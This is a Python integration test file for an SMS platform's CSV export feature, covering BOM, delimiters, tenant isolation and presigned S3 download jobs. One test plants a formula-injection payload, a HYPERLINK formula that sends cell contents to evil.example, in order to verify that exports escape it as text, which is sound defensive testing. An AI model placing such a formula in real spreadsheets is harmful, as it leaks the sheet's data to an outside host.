"""CSV exports on moto (issue 25, item 3): a campaign's messages with escaping and a BOM, streamed when small, a
job with a presigned S3 URL when large."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

import boto3
import pytest

from functions.integrations import app as integrations
from smscore import wiring
from smscore.dal.outbox_store import DynamoOutbox
from smscore.domain.exports import BOM, HEADER
from smscore.domain.model import MessageStatus, Receipt
from smscore.domain.receipts import ReceiptOutcome, apply_receipt
from smscore.providers.sandbox import PERMANENT_INVALID_NUMBER, SandboxProvider
from smsdev.provision import create_buckets, function_environment
from smsdev.testing import serialised_moto
from tests.conftest import LambdaContextStub, Stack, api_event
from tests.integration.conftest import Campaign, make_campaign
from tests.integration.test_deliver import Counting, Delivery


@pytest.fixture
def env(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stack]:
    create_buckets(boto3.client("s3", region_name=stack.names.region), stack.names)
    for function_id in ("IntegrationsFunction", "DeliverFunction"):
        for key, value in function_environment(stack.names, function_id).items():
            monkeypatch.setenv(key, value)
    monkeypatch.setenv("SANDBOX_TIMEOUT_SECONDS", "0")
    wiring.reset()
    with serialised_moto():
        yield stack
    wiring.reset()


def get(who: Campaign, path: str, query: dict[str, str] | None = None, **params: str) -> dict[str, Any]:
    event = api_event(None, tenant_id=who.tenant_id, member_id=who.member_id, token=who.token)
    resource = path
    for name, value in params.items():
        path = path.replace("{" + name + "}", value)
    event.update(
        httpMethod="GET",
        resource=resource,
        path=path,
        pathParameters=params or None,
        queryStringParameters=query,
        multiValueQueryStringParameters={k: [v] for k, v in query.items()} if query else None,
    )
    event["requestContext"].update(httpMethod="GET", resourcePath=resource)
    response: dict[str, Any] = integrations.lambda_handler(event, LambdaContextStub())
    return response


def body_text(response: dict[str, Any]) -> str:
    raw = response["body"]
    return base64.b64decode(raw).decode() if response.get("isBase64Encoded") else str(raw)


def a_delivered_campaign(env: Stack, campaign: Campaign) -> tuple[str, dict[str, str]]:
    delivery = Delivery(stack=env, sandbox=Counting(SandboxProvider(DynamoOutbox())))
    queue_id, ids = delivery.send_campaign(campaign, "+573001112233", "+573001112244", PERMANENT_INVALID_NUMBER)
    delivery.deliver(*delivery.sqs_bodies())
    return queue_id, ids


def test_a_small_campaign_is_answered_as_a_csv_with_a_bom_and_escaped_cells(env: Stack, campaign: Campaign) -> None:
    queue_id, ids = a_delivered_campaign(env, campaign)
    response = get(campaign, "/api/messages/queues/{queueId}/export", queueId=queue_id)
    assert response["statusCode"] == 200, response["body"]
    headers = {k.lower(): v[0] for k, v in response["multiValueHeaders"].items()}
    assert headers["content-type"].startswith("text/csv")
    assert f'filename="campaign-{queue_id}.csv"' in headers["content-disposition"]
    text = body_text(response)
    assert text.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert list(rows[0]) == HEADER
    by_id = {r["messageId"]: r for r in rows}
    assert set(by_id) == set(ids.values())
    # Every recipient begins with "+": written so that no spreadsheet reads it as a formula
    assert {r["recipient"] for r in rows} == {"'" + number for number in ids}
    failed = by_id[ids[PERMANENT_INVALID_NUMBER]]
    assert (failed["status"], failed["credits"], failed["segments"]) == ("FAILED", "1", "1")
    assert failed["errorCode"]
    sent = by_id[ids["+573001112233"]]
    assert sent["status"] == "SENT"
    assert sent["sentAt"].endswith("Z")
    assert sent["deliveredAt"] == ""


def test_a_formula_a_provider_reports_as_its_error_code_is_written_as_text(env: Stack, campaign: Campaign) -> None:
    # Given a campaign whose message was reported UNDELIVERED with an error code that a spreadsheet would run (the
    # provider's text reaches the file as it came)
    queue_id, ids = a_delivered_campaign(env, campaign)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
    receipt = Receipt(
        "sandbox",
        MessageStatus.UNDELIVERED,
        datetime(2026, 12, 6, 10, tzinfo=UTC),
        "undelivered",
        hostile,
        ids["+573001112233"],
    )
    assert apply_receipt(receipt, wiring.receipts_deps().receipts) is ReceiptOutcome.APPLIED
    # When the campaign is exported, in either delimiter
    for query in (None, {"delimiter": "comma"}):
        text = body_text(get(campaign, "/api/messages/queues/{queueId}/export", query, queueId=queue_id))
        rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM)), delimiter="," if query else ";"))
        (row,) = [r for r in rows if r["messageId"] == ids["+573001112233"]]
        # Then the cell holds the code behind a leading apostrophe: text, never a formula; no cell starts with one
        assert (row["status"], row["errorCode"]) == ("UNDELIVERED", "'" + hostile)
        assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_comma_delimiter_and_another_tenants_campaign(env: Stack, campaign: Campaign, admin: Any) -> None:
    queue_id, _ = a_delivered_campaign(env, campaign)
    text = body_text(get(campaign, "/api/messages/queues/{queueId}/export", {"delimiter": "comma"}, queueId=queue_id))
    assert text.splitlines()[0] == BOM + ",".join(HEADER)
    stranger = make_campaign(admin)
    response = get(stranger, "/api/messages/queues/{queueId}/export", queueId=queue_id)
    assert (response["statusCode"], json.loads(response["body"])["code"]) == (404, "NOT_FOUND")


def test_a_large_campaign_is_a_job_whose_file_is_given_by_a_presigned_url(
    env: Stack, campaign: Campaign, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given exports streamed up to 2 rows only (10,000 deployed), and a campaign of 3
    monkeypatch.setenv("EXPORT_STREAM_LIMIT", "2")
    wiring.reset()
    queue_id, ids = a_delivered_campaign(env, campaign)
    # When it is exported: 202 and a PENDING job, its message on the export queue
    response = get(campaign, "/api/messages/queues/{queueId}/export", queueId=queue_id)
    assert response["statusCode"] == 202, response["body"]
    job = json.loads(response["body"])
    assert (job["status"], job["queueId"], job["downloadUrl"]) == ("PENDING", queue_id, None)
    sqs = boto3.client("sqs", region_name=env.names.region)
    got = sqs.receive_message(QueueUrl=env.queue_urls["ExportQueue"], MaxNumberOfMessages=10)["Messages"]
    # And the export function runs the job
    assert integrations.export_handler({"Records": [{"body": m["Body"]} for m in got]}, LambdaContextStub()) == {
        "jobs": [job["id"]]
    }
    # Then the job is READY with 3 rows and a presigned URL of the file in the bucket's exports/ prefix
    ready = json.loads(get(campaign, "/api/exports/{jobId}", jobId=job["id"])["body"])
    assert (ready["status"], ready["rows"]) == ("READY", 3)
    url = urlsplit(ready["downloadUrl"])
    assert "X-Amz-Signature=" in url.query
    key = f"exports/{campaign.tenant_id}/{job['id']}.csv"
    assert url.path.endswith(key)
    bucket = function_environment(env.names, "IntegrationsFunction")["IMPORTS_BUCKET"]
    data = boto3.client("s3", region_name=env.names.region).get_object(Bucket=bucket, Key=key)["Body"].read()
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    assert sorted(r["messageId"] for r in csv.DictReader(io.StringIO(text.removeprefix(BOM)), delimiter=";")) == sorted(
        ids.values()
    )
    # And another tenant cannot read the job
    stranger = make_campaign(campaign.admin)
    assert get(stranger, "/api/exports/{jobId}", jobId=job["id"])["statusCode"] == 404
